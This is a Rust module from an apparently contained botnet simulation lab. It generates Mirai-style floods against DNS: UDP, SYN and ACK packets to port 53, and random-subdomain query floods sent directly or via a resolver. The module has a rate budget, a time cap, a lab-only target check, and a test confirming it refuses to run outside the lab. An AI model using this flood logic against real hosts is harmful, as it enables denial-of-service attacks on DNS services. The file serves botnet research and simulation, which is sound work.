//! The floods: UDP, SYN and ACK to port 53, and questions for random names, straight or through the city's resolver.
//!
//! Bounded by construction: all bots together take their packets out of one budget that is filled at the plan's rate
//! and holds a hundredth of a second; a flood ends after [`LONGEST`] whatever the order says; the target must be a lab
//! address and the thread must be inside the city.

use crate::{
    city::{cell::Inside, plan::Vector, world::World},
    clock,
    dice::Dice,
    error::Result,
    mirai::{controller::Order, scanner::raw_sockets},
    things::dns,
    wire::{Segment, datagram, flag},
};
use std::{
    net::{Ipv4Addr, SocketAddrV4},
    sync::atomic::Ordering::Relaxed,
    time::{Duration, Instant},
};

const LONGEST: Duration = Duration::from_secs(20);
/// Packets taken out of the budget at once.
const BATCH: u64 = 8;
/// Questions a second through the city's resolver, of one bot.
const BY_RESOLVER: u64 = 600;

/// Fills the budget of all bots, for as long as the city lives.
pub(crate) fn fill_budget(world: &World) {
    let slice = u64::from(world.plan.rate) / 100;
    let start = Instant::now();
    for tick in 1_u32.. {
        // What was not taken is lost: at most three slices are ever in store.
        let _ = world.budget.fetch_update(Relaxed, Relaxed, |left| Some((left + slice).min(slice * 3)));
        let next = Duration::from_millis(10).saturating_mul(tick);
        std::thread::sleep(next.saturating_sub(start.elapsed()));
    }
}

/// Carries out an order.
pub(crate) fn run(world: &World, device: usize, from: Ipv4Addr, order: &Order) -> Result<()> {
    let inside = Inside::prove(&world.token)?;
    let target = inside.target(order.target)?;
    let to = match order.vector {
        Vector::TortureByResolver => world.plan.gateway(),
        _ => target,
    };
    let (socket, _) = raw_sockets()?;
    let at = SocketAddrV4::new(to, 53).into();
    let mut dice = Dice::new(world.plan.seed, &format!("flood {device} {:?}", order.vector));
    let until = Instant::now() + Duration::from_secs(u64::from(order.seconds)).min(LONGEST);
    let mut by_resolver = 0;
    let start = Instant::now();
    while Instant::now() < until && !world.is_repaired(device) {
        if order.vector == Vector::TortureByResolver {
            let due = start.elapsed().as_millis() as u64 * BY_RESOLVER / 1000;
            if by_resolver >= due {
                clock::pause(4);
                continue;
            }
            by_resolver += BATCH;
        }
        if !world.may_send(BATCH) {
            clock::pause(1);
            continue;
        }
        let mut sent = 0;
        for _ in 0..BATCH {
            let packet = packet(&mut dice, from, to, order);
            sent += u64::from(socket.send_to(&packet, &at).is_ok());
        }
        world.count_attack(device, sent);
    }
    Ok(())
}

fn packet(dice: &mut Dice, from: Ipv4Addr, to: Ipv4Addr, order: &Order) -> Vec<u8> {
    let (source, id) = (dice.range(1_024, 65_535) as u16, dice.throw() as u16);
    let segment = |flags, ack| Segment {
        src: (from, source),
        dst: (to, 53),
        seq: id.into(),
        ack,
        flags,
        window: 5_840,
        id,
    };
    match order.vector {
        Vector::Udp => datagram((from, source), (to, 53), id, &dice.bytes(64)),
        Vector::Syn => segment(flag::SYN, 0).packet(&[]),
        Vector::Ack => segment(flag::ACK, dice.throw() as u32).packet(&[]),
        Vector::Torture | Vector::TortureByResolver => {
            let name = format!("{}.{}", dice.word(12), order.domain);
            let recursion = order.vector == Vector::TortureByResolver;
            datagram((from, source), (to, 53), id, &dns::question(id, &name, recursion))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        city::plan::Plan,
        mirai::{bot::Bot, program::Orders, scanner::Scan},
    };
    use std::sync::Arc;

    /// This test runs in no namespace of the city: nothing that attacks may send even one packet.
    #[test]
    fn the_attack_refuses_outside_of_the_city() {
        let plan = Plan::of(1, true);
        let (address, target) = (plan.devices[0].address, plan.outside.provider);
        let orders = Orders { controller: SocketAddrV4::new(plan.outside.controller, 23) };
        let into = vec![plan.street];
        let world = Arc::new(World::new(plan, "00c0ffee".into()));
        let order = Order { seconds: 1, vector: Vector::Udp, target, domain: "a.example".into() };
        let refused = |outcome: Result<()>| matches!(outcome, Err(crate::Error::Refused(_)));
        assert!(refused(run(&world, 0, address, &order)));
        let scan = Scan { from: address, into, device: None, purpose: "test".into() };
        assert!(refused(scan.run(&world, || false)));
        let bot = Bot { world: Arc::clone(&world), device: 0, address, orders, scan_after: Some(0) };
        assert!(refused(bot.run()));
        assert_eq!(crate::city::world::lock(&world.attack_sent).len(), 0);
    }
}
